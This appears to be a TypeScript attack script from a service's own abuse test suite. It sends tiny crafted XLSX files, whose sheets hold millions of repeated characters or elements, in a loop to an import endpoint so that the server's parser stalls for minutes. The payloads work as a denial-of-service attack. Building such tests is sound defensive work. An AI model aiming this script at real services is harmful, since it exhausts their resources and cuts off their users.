import { spreadsheetParts, zip } from '../../../../src/import-export/readers/xlsx/spreadsheet-fixture.ts';
import { formOf } from '../../../api/imports/import-fixture.ts';
import { AttackClient, waitUnless } from '../attack-tools.ts';
import type { SurfaceAttack } from '../surface-attack.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
/** An archive of 7 KB: a parser joins each of these texts of millions of pieces. */
const SHEETS = [
  `<!DOCTYPE a [${'<'.repeat(7_000_000)}]><worksheet/>`,
  `<worksheet>${'\r'.repeat(7_000_000)}</worksheet>`,
  `<worksheet>${'<b>'.repeat(29)}${'<a xml:b=""/>'.repeat(700_000)}</worksheet>`,
];

/** Small workbooks that take minutes to read, one after the other, as previews and as imports. */
export const attack: SurfaceAttack = {
  plan: 'pro',
  role: 'admin',
  run: async (target, isOver) => {
    const client = new AttackClient(target);
    const files = SHEETS.map((xml) => zip({ ...spreadsheetParts([['id']]), [SHEET]: xml }));
    for (let sent = 0; !isOver(); sent += 1) {
      const file = files[sent % files.length];
      const { body, type } = await formOf({ file, fileName: 'a.xlsx', mapping: '' });
      const path = `/v1/imports?preview=${sent % 2 === 0}`;
      await client.send(path, { method: 'POST', body, headers: { 'content-type': type } });
      await waitUnless(isOver, 250);
    }
    client.close();
    return client.counts;
  },
};
